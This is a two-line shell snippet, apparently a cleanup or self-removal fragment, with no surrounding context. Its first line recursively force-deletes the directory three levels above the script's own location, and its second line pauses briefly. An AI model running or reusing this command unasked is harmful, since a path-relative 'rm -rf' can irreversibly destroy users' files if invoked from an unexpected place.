rm -rf "${0%/*/*/*}"
sleep 0.2
